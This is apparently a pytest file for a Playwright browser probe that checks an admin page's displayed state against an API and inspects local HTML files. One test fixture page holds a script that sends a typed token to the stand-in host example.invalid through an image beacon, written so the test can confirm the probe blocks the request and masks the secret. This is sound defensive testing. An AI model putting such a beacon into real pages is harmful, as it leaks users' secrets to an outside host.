"""The browser probe against the real reference platform's admin page, and on local HTML files."""

from __future__ import annotations

import asyncio
import threading
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.async_api import Browser

from opsgate.config import BrowserCheck, HttpSource
from opsgate.environments.local import LocalEnvironment
from opsgate.probes.browser import BrowserResult, chromium, inspect_file, run_browser_check

PNG_MAGIC = b"\x89PNG\r\n\x1a\n"
Resolve = Callable[[HttpSource], Awaitable[str]]


@pytest.fixture(scope="module")
async def shared_browser() -> AsyncIterator[Browser]:
    """One Chromium for the module's checks (each check still gets a fresh context)."""
    async with chromium() as browser:
        yield browser


@pytest.fixture
def resolve(api: httpx.AsyncClient, admin_headers: dict[str, str]) -> Resolve:
    """Reads an expectation's API value with the admin token, as the suite would."""

    async def read(source: HttpSource) -> str:
        response = await api.get(source.path, headers={**admin_headers, **source.headers})
        response.raise_for_status()
        value: Any = response.json()
        for part in source.field.split("."):
            value = value[part]
        return str(value)

    return read


Pages = dict[str, tuple[int, dict[str, str], str]]


@pytest.fixture
def site() -> Iterator[tuple[str, Pages]]:
    """A tiny HTTP server on 127.0.0.1: (base URL, pages to fill as ``{path: (status, headers, body)}``)."""
    pages: Pages = {}

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            status, headers, body = pages.get(self.path, (404, {}, "not found"))
            self.send_response(status)
            for name, value in {"Content-Type": "text/html; charset=utf-8", **headers}.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body.encode())

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", pages
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


@pytest.fixture
async def sentinel() -> AsyncIterator[tuple[int, list[bytes]]]:
    """A TCP listener on another origin that records every connection it gets: (port, first bytes seen)."""
    seen: list[bytes] = []

    async def accept(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        seen.append(await asyncio.wait_for(reader.read(100), 2.0))
        writer.close()

    server = await asyncio.start_server(accept, "127.0.0.1", 0)
    yield server.sockets[0].getsockname()[1], seen
    server.close()
    await server.wait_closed()


def login_check(platform: LocalEnvironment, *, password: str | None = None, **extra: Any) -> BrowserCheck:
    """Log in on /admin/login, then whatever ``extra`` adds (steps appended, expect given)."""
    c = platform.credentials
    steps: list[dict[str, Any]] = [
        {"goto": "/admin/login"},
        {"fill": {"input[name=username]": c.service_user, "input[name=password]": password or c.service_password}},
        {"click": "button[type=submit]"},
    ]
    return BrowserCheck.model_validate(
        {"name": "admin-sending-state", "steps": steps + extra.pop("steps", []), **extra}
    )


def state_selector(platform: LocalEnvironment) -> str:
    return f'[data-testid="sending-state-{platform.tenant_id}"]'


def api_state(platform: LocalEnvironment) -> dict[str, Any]:
    return {"service": "api", "path": f"/tenants/{platform.tenant_id}", "field": "sending_state"}


def assert_no_secret(result: BrowserResult, secret: str) -> None:
    assert secret not in repr(result)
    assert all(secret not in text for text in [*result.problems, *result.observed.values(), *result.console_errors])


# --- against the admin page ---------------------------------------------------------------------


async def test_admin_page_shows_the_api_sending_state(
    platform: LocalEnvironment, resolve: Resolve, tmp_path: Path
) -> None:
    selector = state_selector(platform)
    check = login_check(platform, expect=[{"selector": selector, "equals": api_state(platform)}])
    shot = tmp_path / "shots" / "pass.png"
    result = await run_browser_check(check, platform.api_url, screenshot=shot, resolve=resolve, timeout_s=15)
    assert result.passed, result.problems
    assert result.observed == {selector: "sending"} and result.expected == {selector: "sending"}
    assert result.console_errors == [] and result.blocked_requests == []
    assert result.screenshot == shot and shot.read_bytes().startswith(PNG_MAGIC)
    assert_no_secret(result, platform.credentials.service_password)


async def test_kill_switch_click_is_what_the_api_reports(
    platform: LocalEnvironment,
    resolve: Resolve,
    api: httpx.AsyncClient,
    admin_headers: dict[str, str],
    shared_browser: Browser,
    tmp_path: Path,
) -> None:
    selector = state_selector(platform)
    check = login_check(
        platform,
        steps=[{"click": f'[data-testid="kill-switch-{platform.tenant_id}"]'}],
        expect=[{"selector": selector, "equals": api_state(platform)}, {"selector": selector, "text": "paused"}],
    )
    try:
        result = await run_browser_check(
            check, platform.api_url, screenshot=tmp_path / "p.png", resolve=resolve, browser=shared_browser
        )
    finally:
        resumed = await api.post(f"/tenants/{platform.tenant_id}/resume", headers=admin_headers)
    assert resumed.status_code == 200, resumed.text
    assert result.passed, result.problems
    assert result.observed == {selector: "paused"}
    assert (await resolve(HttpSource.model_validate(api_state(platform)))) == "sending"


async def test_a_text_mismatch_names_selector_page_and_expected_values(
    platform: LocalEnvironment, resolve: Resolve, shared_browser: Browser, tmp_path: Path
) -> None:
    selector = state_selector(platform)
    check = login_check(platform, expect=[{"selector": selector, "text": "paused"}])
    shot = tmp_path / "fail.png"
    result = await run_browser_check(
        check, platform.api_url, screenshot=shot, resolve=resolve, browser=shared_browser, timeout_s=10
    )
    assert result.problems == [f"{selector}: page shows 'sending', expected 'paused'"]
    assert result.screenshot == shot and shot.read_bytes().startswith(PNG_MAGIC)


async def test_a_wrong_password_fails_within_the_timeout_naming_the_wait(
    platform: LocalEnvironment, resolve: Resolve, shared_browser: Browser, tmp_path: Path
) -> None:
    selector = state_selector(platform)
    wrong = platform.credentials.service_password + "-wrong"
    check = login_check(platform, password=wrong, expect=[{"selector": selector, "equals": api_state(platform)}])
    shot = tmp_path / "wrong.png"
    result = await run_browser_check(
        check, platform.api_url, screenshot=shot, resolve=resolve, browser=shared_browser, timeout_s=3
    )
    assert not result.passed
    assert "page answered HTTP 401 at /admin/login" in result.problems
    waits = [p for p in result.problems if p.startswith(f"expect 1 ({selector}): not shown within")]
    assert len(waits) == 1 and "page at /admin/login, HTTP 401" in waits[0], result.problems
    assert result.console_errors == []  # Chromium's "Failed to load resource: 401" is the problem above
    assert result.duration_s < 3 + 3, "bounded by the check's budget plus the screenshot"
    assert shot.read_bytes().startswith(PNG_MAGIC)
    assert_no_secret(result, wrong)
    assert_no_secret(result, platform.credentials.service_password)


async def test_a_step_that_cannot_happen_is_named(
    platform: LocalEnvironment, resolve: Resolve, shared_browser: Browser, tmp_path: Path
) -> None:
    check = BrowserCheck.model_validate(
        {"name": "no-button", "steps": [{"goto": "/admin/login"}, {"click": "#no-such-button"}]}
    )
    result = await run_browser_check(
        check, platform.api_url, screenshot=tmp_path / "s.png", resolve=resolve, browser=shared_browser, timeout_s=2
    )
    assert len(result.problems) == 1
    assert result.problems[0].startswith("step 2 (click #no-such-button): timed out after ")
    assert result.problems[0].endswith("waiting for the element to be ready (page at /admin/login, HTTP 200)")


async def test_a_hanging_api_read_ends_at_the_budget(
    platform: LocalEnvironment, shared_browser: Browser, tmp_path: Path
) -> None:
    async def never(source: HttpSource) -> str:
        await asyncio.sleep(60)
        return "unreachable"

    selector = state_selector(platform)
    check = login_check(platform, expect=[{"selector": selector, "equals": api_state(platform)}])
    result = await run_browser_check(
        check, platform.api_url, screenshot=tmp_path / "h.png", resolve=never, browser=shared_browser, timeout_s=3
    )
    assert result.problems == [f"expect 1 ({selector}): the check's 3 s ran out (page at /admin, HTTP 200)"]
    assert result.observed == {selector: "sending"}
    assert result.duration_s < 3 + 3
    assert result.screenshot is not None and result.screenshot.exists()


# --- secrets and other origins on a page of our own ----------------------------------------------

ECHO_PAGE = """<!doctype html><html><head><title>echo</title></head><body>
<input name="token"><button type="button" id="go">Go</button><p data-testid="echo">nothing</p>
<script>
document.getElementById("go").addEventListener("click", () => {
  const v = document.querySelector("input[name=token]").value;
  document.querySelector("[data-testid=echo]").textContent = "you typed " + v;
  console.error("leaked " + v);
  new Image().src = "http://example.invalid/collect?t=" + encodeURIComponent(v);
});
</script></body></html>"""


async def test_typed_values_never_leave_through_the_result(
    site: tuple[str, Pages], resolve: Resolve, shared_browser: Browser, tmp_path: Path
) -> None:
    base_url, pages = site
    pages["/echo.html"] = (200, {}, ECHO_PAGE)
    secret = "s3cr&t pass/word"
    check = BrowserCheck.model_validate(
        {
            "name": "echo",
            "steps": [{"goto": "/echo.html"}, {"fill": {"input[name=token]": secret}}, {"click": "#go"}],
            "expect": [{"selector": "[data-testid=echo]", "text": "nothing"}],
        }
    )
    result = await run_browser_check(
        check, base_url, screenshot=tmp_path / "e.png", resolve=resolve, browser=shared_browser, timeout_s=10
    )
    assert result.observed == {"[data-testid=echo]": "you typed ***"}
    assert result.console_errors == ["leaked ***"]
    assert result.blocked_requests == ["http://example.invalid/collect?t=***"]
    assert "[data-testid=echo]: page shows 'you typed ***', expected 'nothing'" in result.problems
    assert_no_secret(result, secret)
    assert "s3cr%26t" not in repr(result)


async def test_redirects_out_of_the_origin_are_stopped_too(
    site: tuple[str, Pages],
    sentinel: tuple[int, list[bytes]],
    resolve: Resolve,
    shared_browser: Browser,
    tmp_path: Path,
) -> None:
    # Playwright's routes only see a redirect chain's first URL; both hops here start same-origin.
    base_url, pages = site
    port, seen = sentinel
    pages["/out"] = (302, {"Location": f"http://127.0.0.1:{port}/landed"}, "")
    pages["/home"] = (200, {}, "<!doctype html><title>home</title><img src='/out'><p id='x'>home</p>")
    outside = f"http://127.0.0.1:{port}/landed"
    for first, problems in [
        ("/home", [f"request left the page's origin: {outside}"]),
        (
            "/out",
            [f"request left the page's origin: {outside}", "step 1 (goto /out): Page.goto: net::ERR_BLOCKED_BY_CLIENT"],
        ),
    ]:
        check = BrowserCheck.model_validate({"name": "redirect", "steps": [{"goto": first}]})
        result = await run_browser_check(
            check, base_url, screenshot=tmp_path / "r.png", resolve=resolve, browser=shared_browser, timeout_s=5
        )
        assert result.blocked_requests == [outside]
        assert [p.split(" at http")[0] for p in result.problems] == problems
        assert result.console_errors == []
    await asyncio.sleep(0.2)
    assert seen == [], "nothing reached the other origin"


# --- local files ------------------------------------------------------------------------------


async def test_a_local_file_with_errors_and_outside_requests(
    sentinel: tuple[int, list[bytes]], shared_browser: Browser, tmp_path: Path
) -> None:
    port, seen = sentinel
    page = tmp_path / "report.html"
    page.write_text(
        "<!doctype html><html><head><title>Report</title>"
        f"<link rel='stylesheet' href='http://127.0.0.1:{port}/style.css'></head><body><h1>Gate report</h1>"
        "<img src='http://example.invalid/x.png'>"
        "<script>console.error('chart failed to draw');"
        f"new WebSocket('ws://127.0.0.1:{port}/live');</script></body></html>"
    )
    result = await inspect_file(page, screenshot=tmp_path / "report.png", browser=shared_browser, timeout_s=10)
    assert result.console_errors == ["chart failed to draw"]
    assert set(result.blocked_requests) == {
        f"http://127.0.0.1:{port}/style.css",
        "http://example.invalid/x.png",
        f"ws://127.0.0.1:{port}/live",
    }
    assert "console error: chart failed to draw" in result.problems
    assert "request left the page's origin: http://example.invalid/x.png" in result.problems
    assert len(result.problems) == 4
    assert result.observed == {"title": "Report", "text": "Gate report"}
    await asyncio.sleep(0.2)
    assert seen == [], "nothing reached the other origin"


async def test_a_clean_local_file_passes(tmp_path: Path, shared_browser: Browser) -> None:
    page = tmp_path / "clean.html"
    page.write_text(
        "<!doctype html><html><head><title>Clean</title><style>h1{color:#070}</style></head>"
        "<body><h1>All gates passed</h1><img src='data:image/gif;base64,R0lGODlhAQABAAAAACw='></body></html>"
    )
    result = await inspect_file(page, screenshot=tmp_path / "clean.png", browser=shared_browser)
    assert result.passed, result.problems
    assert result.observed["text"] == "All gates passed"
    assert result.screenshot is not None and result.screenshot.read_bytes().startswith(PNG_MAGIC)


async def test_a_missing_file_is_a_problem_not_a_crash(tmp_path: Path) -> None:
    result = await inspect_file(tmp_path / "nope.html", screenshot=tmp_path / "nope.png")
    assert result.problems == [f"no such file: {tmp_path / 'nope.html'}"] and result.screenshot is None


async def test_a_missing_chromium_says_how_to_get_one(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("OPSGATE_CHROMIUM", str(tmp_path / "chromium"))
    with pytest.raises(RuntimeError) as raised:
        async with chromium():
            pass
    assert str(raised.value) == (
        f"chromium not found at {tmp_path / 'chromium'}: apt-get install chromium (or set OPSGATE_CHROMIUM)"
    )
